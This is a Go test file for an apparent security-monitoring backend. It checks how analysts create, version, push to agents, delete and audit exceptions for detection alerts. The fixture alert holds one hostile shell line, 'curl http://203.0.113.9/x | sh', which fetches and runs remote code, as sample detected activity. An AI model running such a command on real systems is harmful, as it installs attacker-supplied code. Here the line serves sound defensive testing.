package backend

import (
	"context"
	"encoding/json"
	"log/slog"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/harrier-sec/harrier/api"
	"github.com/harrier-sec/harrier/transport"
)

// TestExceptions: an analyst makes an exception from an alert (API and
// the alert page's prefilled form), a viewer may not; each change is a new
// version sent to agents on the control channel until they acknowledge it,
// the list page shows which agents have each, and a delete is a version
// too; every change is audited with its user.
func TestExceptions(t *testing.T) {
	ctx := context.Background()
	c, st, now := newTestControl(t)
	a := &api.Alert{Id: "shell-1", DetectionId: "HAR-EXEC-002", Name: "Shell", Severity: api.Severity_SEVERITY_HIGH, Node: "node-a", Cluster: "edge",
		FirstSeen: timestamppb.Now(), LastSeen: timestamppb.Now(), Count: 1,
		Process:   &api.Process{Tgid: 4243, Exe: "/bin/sh", Args: []string{"/bin/sh", "-c", "curl http://203.0.113.9/x | sh"}},
		Container: &api.Container{Id: "3f2a9c", PodNamespace: "shop", WorkloadName: "web", Image: "nginx:1.27"},
		Evidence: []*api.Event{{Kind: api.EventKind_EVENT_KIND_CONNECT, Detail: &api.Event_Connect{Connect: &api.Connect{
			Destination: &api.SocketAddress{Ip: "203.0.113.9", Port: 80}}}}}}
	mustIngest(t, st, "node-a", &api.Batch{AgentId: "node-a", Health: &api.AgentHealth{Node: "node-a"}, Records: []*api.Record{alertRec(1, a)}})
	con := NewConsole(st, c, slog.New(slog.DiscardHandler))
	srv := httptest.NewServer(NewAPI(st, APIConfig{Token: testToken, Control: c, Console: con, Now: func() time.Time { return *now }}, slog.New(slog.DiscardHandler)))
	t.Cleanup(srv.Close)
	ts := &testServer{Server: srv, store: st}
	anaTok := addTestUser(t, st, "ana", RoleAnalyst, "analyst password 12")
	vicTok := addTestUser(t, st, "vic", RoleViewer, "")
	bearer := func(tok string) map[string]string { return map[string]string{"Authorization": "Bearer " + tok} }

	body := `{"alert_id":"shell-1","detection":"HAR-EXEC-002","scope":"workload","namespace":"shop","workload":"web","command":"/bin/sh -c curl *","expires_in":"24h","reason":"deploy hook"}`
	for _, tc := range []struct {
		who, body string
		want      int
	}{
		{vicTok, body, 403},
		{anaTok, strings.Replace(body, `"workload":"web",`, "", 1), 400},                       // workload scope without a workload
		{anaTok, strings.Replace(body, `"24h"`, `"9000h"`, 1), 400},                            // too long
		{anaTok, `{"scope":"cluster","expires_in":"1h"}`, 400},                                 // no field: silences everything
		{anaTok, strings.Replace(body, `"reason"`, `"unknown":1,"reason"`, 1), 400},            // unknown field
		{anaTok, strings.Replace(body, `"shell-1"`, `"no-such-alert"`, 1), 400},                // no such alert
		{anaTok, strings.Replace(body, `"command"`, `"destination":"1.2.3.0/99","x"`, 1), 400}, // bad CIDR (and unknown x)
	} {
		if r := ts.do(t, nil, "POST", "/api/v1/exceptions", tc.body, bearer(tc.who)); r.code != tc.want {
			t.Errorf("POST %s: %d %s, want %d", tc.body, r.code, r.body, tc.want)
		}
	}
	if set, _ := c.Exceptions(ctx); set.Version != 0 {
		t.Fatalf("refused requests made version %d", set.Version)
	}
	r := ts.do(t, nil, "POST", "/api/v1/exceptions", body, bearer(anaTok))
	var made struct{ Exception SiteException }
	if r.code != 201 || json.Unmarshal([]byte(r.body), &made) != nil {
		t.Fatalf("POST: %d %s", r.code, r.body)
	}
	x := made.Exception
	if x.Version != 1 || x.CreatedBy != "ana" || x.Scope != ScopeWorkload || x.Detection != "HAR-EXEC-002" || x.Commands[0] != "/bin/sh -c curl *" ||
		!x.Expires.Equal(now.UTC().Add(24*time.Hour)) {
		t.Errorf("exception made: %+v", x)
	}

	// Sent until the agent acknowledges the version.
	ctl, err := c.PendingControl(ctx, "node-a", transport.ControlSent{})
	if err != nil || ctl.GetExceptions().GetVersion() != 1 || len(ctl.GetExceptions().GetExceptions()) != 1 ||
		ctl.GetExceptions().GetExceptions()[0].GetWorkloads()[0] != "web" {
		t.Fatalf("control for node-a: %v %v", ctl, err)
	}
	if again, _ := c.PendingControl(ctx, "node-a", transport.ControlSent{Exceptions: 1}); again.GetExceptions() != nil {
		t.Error("version 1 sent again on a connection that delivered it")
	}
	if err := c.ControlAcked(ctx, "node-a", ctl, &api.ControlAck{ExceptionsVersion: 1}); err != nil {
		t.Fatal(err)
	}
	page := ts.do(t, nil, "GET", "/exceptions", "", bearer(vicTok))
	for _, want := range []string{`id="` + x.ID + `"`, "node-a ✓", "command /bin/sh -c curl *", "deploy hook", "HAR-EXEC-002"} {
		if !strings.Contains(page.body, want) {
			t.Errorf("exceptions page lacks %q:\n%.3000s", want, page.body)
		}
	}
	if p := ts.do(t, nil, "GET", "/agents", "", bearer(vicTok)); !strings.Contains(p.body, "exceptions: v1") {
		t.Errorf("agents page does not show the applied exceptions version:\n%.3000s", p.body)
	}

	// The alert page's form, prefilled; posted by the analyst's session.
	ana := signIn(t, ts, "ana", "analyst password 12")
	alertPage := ts.do(t, ana, "GET", "/alerts/shell-1", "", nil)
	for _, want := range []string{`id="exc-namespace" value="shop"`, `id="exc-workload" value="web"`, `id="exc-image" value="nginx:1.27"`,
		`id="exc-process" value="/bin/sh"`, `id="exc-destination" value="203.0.113.9:80"`, `<option value="workload" selected>`} {
		if !strings.Contains(alertPage.body, want) {
			t.Errorf("alert page's exception form lacks %s", want)
		}
	}
	m := csrfRE.FindStringSubmatch(alertPage.body)
	form := url.Values{"csrf": {m[1]}, "detection": {"HAR-EXEC-002"}, "scope": {"cluster"}, "namespace": {"shop"}, "image": {"nginx:*"},
		"process": {"/bin/sh"}, "expires_in": {"720h"}}
	hdr := map[string]string{"Content-Type": "application/x-www-form-urlencoded"}
	if r := ts.do(t, ana, "POST", "/alerts/shell-1/exception", form.Encode(), hdr); r.code != 303 || !strings.HasPrefix(r.header.Get("Location"), "/exceptions#exc-") {
		t.Fatalf("form post: %d %s %.300s", r.code, r.header.Get("Location"), r.body)
	}
	set, _ := c.Exceptions(ctx)
	if set.Version != 2 || len(set.Exceptions) != 2 {
		t.Fatalf("after the form: %+v", set)
	}
	if y := set.Exceptions[1]; y.Cluster != "edge" || len(y.Namespaces) != 0 || y.Images[0] != "nginx:*" || y.Version != 2 {
		t.Errorf("cluster-scoped exception from the form: %+v", y)
	}
	page = ts.do(t, nil, "GET", "/exceptions", "", bearer(vicTok))
	if !strings.Contains(page.body, "node-a: not yet") {
		t.Errorf("the agent on version 1 is shown as having version 2's exception:\n%.3000s", page.body)
	}

	// Delete: a new version without it.
	if r := ts.do(t, nil, "DELETE", "/api/v1/exceptions/"+x.ID, "", bearer(vicTok)); r.code != 403 {
		t.Errorf("viewer's delete: %d", r.code)
	}
	if r := ts.do(t, nil, "DELETE", "/api/v1/exceptions/"+x.ID, "", bearer(anaTok)); r.code != 200 {
		t.Errorf("delete: %d %s", r.code, r.body)
	}
	if r := ts.do(t, nil, "DELETE", "/api/v1/exceptions/"+x.ID, "", bearer(anaTok)); r.code != 404 {
		t.Errorf("delete again: %d %s", r.code, r.body)
	}
	set, _ = c.Exceptions(ctx)
	if set.Version != 3 || len(set.Exceptions) != 1 || set.Exceptions[0].ID == x.ID {
		t.Errorf("after the delete: %+v", set)
	}
	if ctl, _ := c.PendingControl(ctx, "node-a", transport.ControlSent{Exceptions: 1}); ctl.GetExceptions().GetVersion() != 3 {
		t.Errorf("version 3 not sent: %v", ctl)
	}
	audit, err := con.AuditLog(ctx, 20)
	if err != nil {
		t.Fatal(err)
	}
	var actions []string
	for _, e := range audit {
		if strings.HasPrefix(e.Action, "exception.") && e.User == "ana" {
			actions = append(actions, e.Action+":"+e.Outcome)
		}
	}
	if got := strings.Join(actions, " "); !strings.Contains(got, "exception.delete:ok") || !strings.Contains(got, "exception.add:ok") ||
		strings.Count(got, "exception.add") < 2 {
		t.Errorf("audit of ana's exception changes: %s", got)
	}
}
